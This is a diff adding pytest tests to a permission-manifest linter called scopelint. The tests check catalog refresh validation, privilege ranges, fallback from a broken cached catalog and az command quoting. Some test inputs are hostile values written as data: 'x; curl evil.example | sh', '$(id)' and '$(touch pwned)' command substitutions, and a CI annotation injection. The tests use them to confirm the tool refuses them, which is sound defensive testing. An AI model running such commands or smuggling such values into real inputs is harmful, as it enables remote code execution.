@@ -442,3 +442,75 @@ def test_deep_nesting_within_the_highest_max_depth_is_exit_2_or_read_never_a_cra
     run = cli("check", "--config", tmp_path / ".scopelint.yaml", manifest)
     _no_crash(run)
     assert run.code == 2 and len(run.stderr.splitlines()) == 1
+
+
+# ---------------------------------------------------------------------------------------------- 7. catalog refresh
+SP_ROLE = {"id": "b633e1c5-b582-4048-a93e-9f11b44c7e96", "value": "Mail.Send", "displayName": "Send mail"}
+SP_SCOPE = {"id": "e383f46e-2787-4529-855e-0e479a3ffac0", "value": "Mail.Send", "type": "User",
+            "adminConsentDisplayName": "Send mail as a user"}
+
+
+@pytest.mark.parametrize("field, value, needle", [
+    ("id", "x; curl evil.example | sh", "'id' must be a GUID"),
+    ("id", "e383f46e-2787-4529-855e-0e479a3ffac0 --yes", "'id' must be a GUID"),
+    ("id", 12, "'id' must be a GUID"),
+    ("value", "Mail.Send $(id)", "'value' must be a permission name"),
+    ("value", "Mail\u2028Send", "'value' must be a permission name"),
+    ("value", "Tas\u212a.Read", "'value' must be a permission name"),
+    ("value", None, "'value' must be a permission name"),
+    ("isEnabled", "yes", "'isEnabled' must be true or false"),
+    ("adminConsentDisplayName", "Send\n::error::x", "must be one line of text"),
+])
+def test_a_refresh_input_with_a_bad_field_is_refused_naming_the_entry(cli, tmp_path, field, value, needle):
+    src = tmp_path / "sp.json"
+    src.write_text(json.dumps({"oauth2PermissionScopes": [SP_SCOPE, {**SP_SCOPE, field: value}],
+                               "appRoles": [SP_ROLE]}))
+    run = cli("catalog", "refresh", "--from", src, "--output", tmp_path / "out")
+    _no_crash(run)
+    assert run.code == 2, run.stderr
+    assert run.stderr.startswith(f"scopelint: error: {src}: delegated permission 2") and needle in run.stderr
+    assert not (tmp_path / "out" / "catalog.json").exists()
+
+
+@pytest.mark.parametrize("level", [True, 0, 9, "high", 2.5])
+def test_a_privilege_level_out_of_range_is_refused(cli, tmp_path, level):
+    src = tmp_path / "sp.json"
+    src.write_text(json.dumps({"oauth2PermissionScopes": [SP_SCOPE], "appRoles": [SP_ROLE]}))
+    paths = tmp_path / "permissions.json"
+    paths.write_text(json.dumps({"permissions": {"Mail.Send": {"schemes": {"DelegatedWork": {"privilegeLevel": level}},
+                                                               "pathSets": []}}}))
+    run = cli("catalog", "refresh", "--from", src, "--paths", paths, "--output", tmp_path / "out")
+    _no_crash(run)
+    if isinstance(level, int):  # True, 0 and 9 reach the catalog and are refused there
+        assert run.code == 2 and "'privilege' must be a level from 1 to 5" in run.stderr, run.stderr
+    else:  # not a number: Microsoft's document gives no level for it
+        assert run.code == 0, run.stderr
+        assert json.loads((tmp_path / "out" / "catalog.json").read_text())["delegated"][0]["privilege"] is None
+
+
+def test_a_cached_catalog_that_does_not_load_is_announced_and_the_bundled_one_used(cli_proc, tmp_path):
+    cache = tmp_path / "cache"
+    cache.mkdir()
+    doc = json.loads((ROOT / "scopelint" / "data" / "catalog.json").read_text())
+    doc["delegated"][0]["id"] = "$(touch pwned)"
+    (cache / "catalog.json").write_text(json.dumps(doc))
+    run = cli_proc("check", GOOD, env={"SCOPELINT_CACHE": str(cache)})
+    assert f"scopelint: warning: the refreshed permission catalog {cache / 'catalog.json'} does not load " \
+        "(delegated permission 1: 'id' must be a GUID" in run.stderr
+    assert "using the bundled one" in run.stderr and run.code in (0, 1)
+    info = cli_proc("catalog", "info", env={"SCOPELINT_CACHE": str(cache)})
+    assert "origin:    bundled" in info.stdout and "does not load" in info.stderr
+
+
+def test_every_az_argument_is_one_shell_word(cli, tmp_path):
+    import shlex
+
+    run = cli("scopes", GOOD, "--format", "az")
+    assert run.code == 0, run.stderr
+    commands = [shlex.split(line) for line in run.stdout.splitlines() if line.startswith("az ")]
+    assert commands
+    for words in commands:
+        if "--api-permissions" in words:
+            value = words[words.index("--api-permissions") + 1]
+            guid = value.split("=")[0]
+            assert len(guid) == 36 and value in (guid, f"{guid}=Scope", f"{guid}=Role")
